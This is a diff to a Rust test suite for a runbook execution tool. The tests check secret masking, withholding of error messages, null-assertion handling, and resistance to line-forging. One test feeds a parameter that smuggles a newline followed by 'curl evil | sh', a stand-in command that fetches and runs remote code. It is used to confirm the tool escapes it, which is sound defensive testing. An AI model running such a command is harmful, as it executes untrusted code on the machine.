@@ -218,7 +218,8 @@ fn show_prints_and_journals_a_bounded_table_of_rows() {
     }
     let journal = journals(dir.path());
     assert!(
-        journal.contains(r#""columns":["id","v"],"rows":[["1","alpha"],["2","beta"]],"total":4"#),
+        journal.contains(r#""columns":["id","v"],"event":"shown""#)
+            && journal.contains(r#""rows":[["1","alpha"],["2","beta"]],"step":"look","total":4"#),
         "{journal}"
     );
 }
@@ -406,4 +407,178 @@ fn a_value_never_writes_escape_sequences_to_the_operator_s_terminal() {
     assert!(shown.contains("\\x1b[1A\\x1b[2Kall good"), "{shown}");
     assert!(shown.contains("\\u{202e}txt.exe"), "{shown}");
     assert!(shown.contains("v = \\x1b[2J"), "{shown}");
+}
+
+#[test]
+fn a_secret_is_masked_before_anything_cuts_or_squeezes_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let long = "Sup3rS3cretValue_ABCDEFGHIJKLMNOPQRSTUVWXYZ_0123456789";
+    let spaced = "pass  word\tx9";
+    for (n, secret) in [long, spaced].into_iter().enumerate() {
+        let rb = runbook(
+            dir.path(),
+            &format!("cut-{n}"),
+            runbook_compile::plan::Dialect::Sqlite,
+            "params:\n  pw: secret\n",
+            "```sql {#look show}\nSELECT {{ pw }} AS g;\n```\n\n\
+             ```sh {#tell}\nprintf 'x%.0s' $(seq 1 190); echo \"$RUNBOOK_PARAM_PW\"\n```\n\n\
+             ```sql {#gate}\nSELECT {{ pw }} AS g;\n-- @assert g == 'no'\n```\n",
+        );
+        let file = dir.path().join(format!("pw-{n}.txt"));
+        std::fs::write(&file, format!("{secret}\n")).unwrap();
+        let given = format!("pw=@{}", file.display());
+        let url = format!("sqlite://{}?mode=rwc", dir.path().join("cut.db").display());
+        let (code, shown) = exec(&rb, &url, dir.path(), &["--param", &given]);
+        assert_eq!(code, Some(1), "{shown}");
+        for piece in [
+            "Sup3rS3cret",
+            "pass  word",
+            "pass word",
+            "word\tx9",
+            "word x9",
+        ] {
+            assert!(!shown.contains(piece), "{piece}: {shown}");
+        }
+        let journal = journals(dir.path());
+        assert!(
+            !journal.contains("Sup3rS3cret") && !journal.contains("pass  word"),
+            "{journal}"
+        );
+    }
+    // So short a secret cannot be told from the text around it: refused.
+    let rb = runbook(
+        dir.path(),
+        "short",
+        runbook_compile::plan::Dialect::Sqlite,
+        "params:\n  pw: secret\n",
+        "```sql {#one}\nSELECT {{ pw }} AS g;\n```\n",
+    );
+    let url = format!("sqlite://{}?mode=rwc", dir.path().join("s.db").display());
+    let (code, shown) = exec(&rb, &url, dir.path(), &["--param", "pw=e"]);
+    assert_eq!(code, Some(2), "{shown}");
+    assert!(shown.contains("fewer than 6 characters"), "{shown}");
+}
+
+#[test]
+fn a_server_s_message_about_a_statement_holding_a_secret_is_withheld() {
+    let dir = tempfile::tempdir().unwrap();
+    let secret = "Secr3t-ünïcode-😀-0123456789-abcdefghijklmnopqrstuvwxyz-ABCDEFGHIJKL";
+    let file = dir.path().join("pw.txt");
+    std::fs::write(&file, format!("{secret}\n")).unwrap();
+    let given = format!("pw=@{}", file.display());
+    for (dialect, url) in targets(dir.path(), "withheld") {
+        let cast = match dialect {
+            runbook_compile::plan::Dialect::Postgres => "SELECT {{ pw }}::int AS n;",
+            runbook_compile::plan::Dialect::Mysql => {
+                "SELECT CAST({{ pw }} AS DECIMAL) + no_such AS n;"
+            }
+            runbook_compile::plan::Dialect::Sqlite => "SELECT {{ pw }} + no_such AS n;",
+        };
+        let rb = runbook(
+            dir.path(),
+            &format!("withheld-{dialect}"),
+            dialect,
+            "params:\n  pw: secret\n",
+            &format!("```sql {{#bad}}\n{cast}\n```\n"),
+        );
+        let (code, shown) = exec(&rb, &url, dir.path(), &["--param", &given]);
+        assert_eq!(code, Some(3), "{dialect}: {shown}");
+        assert!(
+            shown.contains("its message is withheld"),
+            "{dialect}: {shown}"
+        );
+        assert!(
+            !shown.contains("Secr3t") && !shown.contains("5365637233"),
+            "{dialect}: {shown}"
+        );
+    }
+    let journal = journals(dir.path());
+    assert!(
+        !journal.contains("Secr3t") && !journal.contains("5365637233"),
+        "{journal}"
+    );
+}
+
+#[test]
+fn a_check_of_null_or_of_a_doubled_column_proves_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let url = format!("sqlite://{}?mode=rwc", dir.path().join("n.db").display());
+    for (name, body, said) in [
+        (
+            "null-check",
+            "```sql {#gate}\nSELECT MAX(x) AS m FROM (SELECT 1 AS x) WHERE x > 5;\n-- @assert m < 100\n```\n",
+            "`m` is NULL, and a check of NULL proves nothing",
+        ),
+        (
+            "doubled",
+            "```sql {#gate}\nSELECT COUNT(*) AS live, 0 AS live;\n-- @assert live == 0\n```\n",
+            "the result has two columns named `live`",
+        ),
+    ] {
+        let rb = runbook(
+            dir.path(),
+            name,
+            runbook_compile::plan::Dialect::Sqlite,
+            "",
+            body,
+        );
+        let (code, shown) = exec(&rb, &url, dir.path(), &[]);
+        assert_eq!(code, Some(1), "{name}: {shown}");
+        assert!(shown.contains(said), "{name}: {shown}");
+    }
+    // Asking about NULL itself is a check.
+    let rb = runbook(
+        dir.path(),
+        "none",
+        runbook_compile::plan::Dialect::Sqlite,
+        "",
+        "```sql {#gate}\nSELECT NULL AS m;\n-- @assert m is none\n```\n",
+    );
+    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
+    assert_eq!(code, Some(0), "{shown}");
+}
+
+#[test]
+fn a_line_break_in_a_server_message_or_a_value_forges_no_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let url = format!("sqlite://{}?mode=rwc", dir.path().join("f.db").display());
+    let rb = runbook(
+        dir.path(),
+        "forge",
+        runbook_compile::plan::Dialect::Sqlite,
+        "params:\n  note: text\n",
+        "- [ ] Told {{ note }}\n\n```sql {#bad}\nSELECT * FROM \"tab\nrolled back: nothing\";\n```\n",
+    );
+    let (code, shown) = exec(
+        &rb,
+        &url,
+        dir.path(),
+        &["--param", "note=x\nnext: curl evil | sh"],
+    );
+    assert_eq!(code, Some(4), "{shown}");
+    assert!(
+        !shown.lines().any(|l| l.starts_with("next: curl")),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("$'note=x\\x0anext: curl evil | sh'"),
+        "{shown}"
+    );
+    let rb = runbook(
+        dir.path(),
+        "forge2",
+        runbook_compile::plan::Dialect::Sqlite,
+        "",
+        "```sql {#bad}\nSELECT * FROM \"tab\nrolled back: nothing\";\n```\n",
+    );
+    let (code, shown) = exec(&rb, &url, dir.path(), &[]);
+    assert_eq!(code, Some(3), "{shown}");
+    assert_eq!(
+        shown
+            .lines()
+            .filter(|l| l.starts_with("rolled back:"))
+            .count(),
+        1,
+        "{shown}"
+    );
 }
